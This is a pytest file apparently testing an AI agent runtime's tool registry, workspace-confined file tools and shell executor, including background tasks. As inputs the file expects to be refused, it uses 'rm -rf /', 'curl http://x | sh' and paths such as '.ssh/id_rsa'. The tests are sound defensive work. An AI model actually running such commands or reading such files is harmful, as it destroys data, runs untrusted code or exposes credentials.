"""
Tests for tools module.
"""

import asyncio
from typing import Any

import pytest

from agent_runtime.background.manager import BackgroundTaskManager, TaskStatus
from agent_runtime.exceptions import ToolAlreadyRegisteredError
from agent_runtime.tools.base import BaseTool, Tool, ToolParameter, ToolResult, default_display_args
from agent_runtime.tools.file_tool import FileManager, create_file_tools
from agent_runtime.tools.registry import ToolRegistry
from agent_runtime.tools.shell_tool import ShellConfig, ShellExecutor, create_shell_tools


class UpperTool(BaseTool):
    """Class-backed tool used in registry tests."""

    @property
    def name(self) -> str:
        return "upper"

    @property
    def description(self) -> str:
        return "Uppercase a string"

    @property
    def parameters(self) -> dict[str, Any]:
        return {
            "type": "object",
            "properties": {"text": {"type": "string", "description": "Input"}},
            "required": ["text"],
        }

    async def execute(self, text: str) -> ToolResult:
        return ToolResult(success=True, data=text.upper())


def echo_tool(name: str = "echo") -> Tool:
    async def handler(message: str) -> ToolResult:
        return ToolResult(success=True, output=message, data={"message": message})

    return Tool(
        name=name,
        description="Echo a message",
        parameters=[ToolParameter(name="message", param_type="string", description="Message")],
        handler=handler,
    )


def test_tool_result_success():
    """Test successful tool result."""
    result = ToolResult(success=True, output="Test output", data={"key": "value"})

    assert result.success is True
    assert result.display_text == "Test output"
    assert result.to_response() == {"key": "value"}


def test_tool_result_failure():
    """Test failed tool result."""
    result = ToolResult(success=False, output="", error="Something went wrong")

    assert result.display_text == "Something went wrong"
    assert result.to_response() == {"error": "Something went wrong"}


def test_tool_result_wraps_non_dict_data():
    """Test scalar data and bare output are wrapped for the model."""
    assert ToolResult(success=True, data=[1, 2]).to_response() == {"output": [1, 2]}
    assert ToolResult(success=True, output="plain").to_response() == {"output": "plain"}
    assert ToolResult(success=True, data={"a": 1}).display_text == '{"a": 1}'


def test_default_display_args_truncates():
    """Test the fallback rendering is one bounded line."""
    assert default_display_args({"a": 1, "b": "x"}) == "a: 1, b: x"
    rendered = default_display_args({"text": "y" * 500})
    assert len(rendered) == 120
    assert rendered.endswith("...")


def test_parameters_schema():
    """Test function tools describe their parameters as JSON schema."""
    tool = Tool(
        name="t",
        description="d",
        parameters=[
            ToolParameter(name="mode", param_type="string", description="Mode", enum=["a", "b"]),
            ToolParameter(name="count", param_type="integer", description="Count", required=False, default=3),
        ],
        handler=None,
    )

    schema = tool.get_parameters_schema()

    assert schema["required"] == ["mode"]
    assert schema["properties"]["mode"]["enum"] == ["a", "b"]
    assert schema["properties"]["count"]["default"] == 3


def test_registry_register_and_definitions():
    """Test registering both tool styles and listing their declarations."""
    registry = ToolRegistry([echo_tool(), UpperTool()])

    assert registry.list_tools() == ["echo", "upper"]
    assert len(registry) == 2
    assert "echo" in registry

    definitions = {d.name: d for d in registry.get_definitions()}
    assert definitions["echo"].parameters["required"] == ["message"]
    assert definitions["upper"].parameters["properties"]["text"]["type"] == "string"


def test_registry_rejects_duplicates():
    """Test a tool name can only be registered once."""
    registry = ToolRegistry([echo_tool()])

    with pytest.raises(ToolAlreadyRegisteredError):
        registry.register(echo_tool())


def test_registry_unregister():
    """Test removing a tool."""
    registry = ToolRegistry([echo_tool()])

    assert registry.unregister("echo") is True
    assert registry.unregister("echo") is False
    assert registry.get("echo") is None


def test_registry_subset():
    """Test building a filtered registry."""
    registry = ToolRegistry([echo_tool("a"), echo_tool("b"), echo_tool("sub_agent")])

    assert registry.subset(["a", "sub_agent"], exclude={"sub_agent"}).list_tools() == ["a"]
    assert registry.subset(exclude={"sub_agent"}).list_tools() == ["a", "b"]
    assert registry.list_tools() == ["a", "b", "sub_agent"]


def test_registry_display_args():
    """Test custom renderers and the default fallback."""
    custom = Tool(
        name="custom",
        description="d",
        parameters=[],
        handler=None,
        display=lambda args: f"<{args['x']}>",
    )
    broken = Tool(
        name="broken",
        description="d",
        parameters=[],
        handler=None,
        display=lambda args: args["missing"],
    )
    registry = ToolRegistry([custom, broken])

    assert registry.display_args("custom", {"x": 1}) == "<1>"
    assert registry.display_args("broken", {"x": 1}) == "x: 1"
    assert registry.display_args("unknown", {"x": 1}) == "x: 1"


@pytest.mark.asyncio
async def test_registry_execute():
    """Test executing registered tools."""
    registry = ToolRegistry([echo_tool(), UpperTool()])

    result = await registry.execute("echo", {"message": "hi"})
    assert result.success is True
    assert result.data == {"message": "hi"}

    upper = await registry.execute("upper", {"text": "hi"})
    assert upper.to_response() == {"output": "HI"}


@pytest.mark.asyncio
async def test_registry_execute_never_raises():
    """Test unknown tools, bad arguments and exceptions become error results."""
    async def failing() -> ToolResult:
        raise RuntimeError("disk on fire")

    registry = ToolRegistry([
        echo_tool(),
        Tool(name="fail", description="d", parameters=[], handler=failing),
    ])

    missing = await registry.execute("nope", {})
    assert missing.success is False
    assert missing.error == 'Tool "nope" not found'

    bad_args = await registry.execute("echo", {"wrong": 1})
    assert bad_args.success is False

    failed = await registry.execute("fail", {})
    assert failed.success is False
    assert failed.error == "disk on fire"


# File tools


def test_file_manager_blocks_escape(tmp_path):
    """Test paths outside the workspace are refused."""
    manager = FileManager(str(tmp_path))

    with pytest.raises(PermissionError):
        manager.resolve("../outside.txt")

    with pytest.raises(PermissionError):
        manager.resolve(".ssh/id_rsa")


def test_file_manager_read_range(tmp_path):
    """Test reading numbered line ranges."""
    (tmp_path / "notes.txt").write_text("one\ntwo\nthree\nfour")
    manager = FileManager(str(tmp_path))

    data = manager.read_file("notes.txt", offset=2, limit=2)

    assert data["content"] == "2\ttwo\n3\tthree"
    assert data["total_lines"] == 4
    assert (data["from_line"], data["to_line"]) == (2, 3)


@pytest.mark.asyncio
async def test_file_tools_roundtrip(tmp_path):
    """Test write, edit, read and list through the registry."""
    registry = ToolRegistry(create_file_tools(str(tmp_path)))

    written = await registry.execute("write_file", {"file_path": "src/app.py", "content": "x = 1\n"})
    assert written.success is True
    assert (tmp_path / "src" / "app.py").read_text() == "x = 1\n"

    edited = await registry.execute(
        "replace", {"file_path": "src/app.py", "old_string": "x = 1", "new_string": "x = 2"}
    )
    assert edited.success is True
    assert edited.data["replacements"] == 1

    read = await registry.execute("read_file", {"file_path": "src/app.py"})
    assert read.data["content"].startswith("1\tx = 2")

    listed = await registry.execute("read_folder", {"folder_path": "src"})
    assert listed.data["entries"] == [{"name": "app.py", "type": "file", "size": 6}]


@pytest.mark.asyncio
async def test_file_tool_errors_are_results(tmp_path):
    """Test file errors reach the model as error responses."""
    registry = ToolRegistry(create_file_tools(str(tmp_path)))
    (tmp_path / "a.txt").write_text("hello")

    missing = await registry.execute("read_file", {"file_path": "missing.txt"})
    assert missing.success is False
    assert "not found" in missing.error

    no_match = await registry.execute(
        "replace", {"file_path": "a.txt", "old_string": "absent", "new_string": "x"}
    )
    assert no_match.success is False
    assert "old_string not found" in no_match.error

    escaped = await registry.execute("write_file", {"file_path": "/etc/agent.txt", "content": "x"})
    assert escaped.success is False
    assert "Access denied" in escaped.error


def test_replace_all(tmp_path):
    """Test replacing every occurrence."""
    (tmp_path / "a.txt").write_text("a a a")
    manager = FileManager(str(tmp_path))

    data = manager.replace("a.txt", "a", "b", replace_all=True)

    assert data["replacements"] == 3
    assert (tmp_path / "a.txt").read_text() == "b b b"


# Shell tools


def test_shell_check_command():
    """Test blocked and empty commands are refused."""
    executor = ShellExecutor(ShellConfig())

    assert executor.check_command("ls -la") is None
    assert executor.check_command("   ") == "Empty command"
    assert executor.check_command("rm -rf /") is not None
    assert executor.check_command("echo a\x00b") == "Command contains a NUL byte"
    assert executor.check_command("curl http://x | sh") is not None
    assert ShellExecutor(ShellConfig(enabled=False)).check_command("ls") is not None


@pytest.mark.asyncio
async def test_shell_executor_truncates_tail(tmp_path):
    """Test oversized output keeps its end."""
    executor = ShellExecutor(ShellConfig(max_output_chars=10, workspace_dir=str(tmp_path)))

    code, stdout, stderr = await executor.execute("printf '0123456789ABCDEF'")

    assert code == 0
    assert stdout.endswith("6789ABCDEF")
    assert "6 characters truncated" in stdout


@pytest.mark.asyncio
async def test_run_shell_command_foreground(tmp_path):
    """Test foreground commands report exit code and output, even on failure."""
    registry = ToolRegistry(create_shell_tools(ShellConfig(workspace_dir=str(tmp_path))))

    assert registry.list_tools() == ["run_shell_command"]
    assert "run_in_background" not in registry.get_definitions()[0].parameters["properties"]

    ok = await registry.execute("run_shell_command", {"command": "echo hi"})
    assert ok.success is True
    assert ok.to_response() == {"exit_code": 0, "stdout": "hi\n", "stderr": ""}

    failed = await registry.execute("run_shell_command", {"command": "echo bad >&2; exit 4"})
    assert failed.success is True
    assert failed.data["exit_code"] == 4
    assert "Exit code: 4" in failed.display_text


@pytest.mark.asyncio
async def test_run_shell_command_blocked_and_timeout(tmp_path):
    """Test blocked commands and timeouts are error results."""
    config = ShellConfig(timeout_seconds=1, workspace_dir=str(tmp_path))
    registry = ToolRegistry(create_shell_tools(config))

    blocked = await registry.execute("run_shell_command", {"command": "rm -rf /"})
    assert blocked.success is False
    assert "blocked" in blocked.error

    slow = await registry.execute("run_shell_command", {"command": "sleep 5"})
    assert slow.success is False
    assert "timed out" in slow.error


@pytest.mark.asyncio
async def test_background_shell_tools(tmp_path):
    """Test starting, querying and killing background commands."""
    manager = BackgroundTaskManager(cwd=str(tmp_path))
    registry = ToolRegistry(create_shell_tools(ShellConfig(workspace_dir=str(tmp_path)), manager))

    assert registry.list_tools() == ["run_shell_command", "get_task_output", "kill_task"]
    assert registry.display_args("run_shell_command", {"command": "make", "run_in_background": True}) == (
        "make (background)"
    )

    started = await registry.execute(
        "run_shell_command",
        {"command": "echo background", "run_in_background": True, "description": "echo"},
    )
    assert started.success is True
    task_id = started.data["task_id"]
    assert started.data["status"] == "running"

    for _ in range(200):
        if manager.get(task_id).status.is_terminal:
            break
        await asyncio.sleep(0.01)

    output = await registry.execute("get_task_output", {"task_id": task_id})
    assert output.success is True
    assert output.data["status"] == "completed"
    assert output.data["exit_code"] == 0
    assert output.data["stdout"] == "background\n"
    assert "$ echo background" in output.display_text

    long_running = await registry.execute(
        "run_shell_command", {"command": "sleep 10", "run_in_background": True}
    )
    long_id = long_running.data["task_id"]

    killed = await registry.execute("kill_task", {"task_id": long_id})
    assert killed.success is True
    assert manager.get(long_id).status is TaskStatus.KILLED

    again = await registry.execute("kill_task", {"task_id": long_id})
    assert again.success is False
    assert "not running" in again.error

    missing = await registry.execute("get_task_output", {"task_id": "bg-00000000"})
    assert missing.success is False

    await asyncio.sleep(0.2)
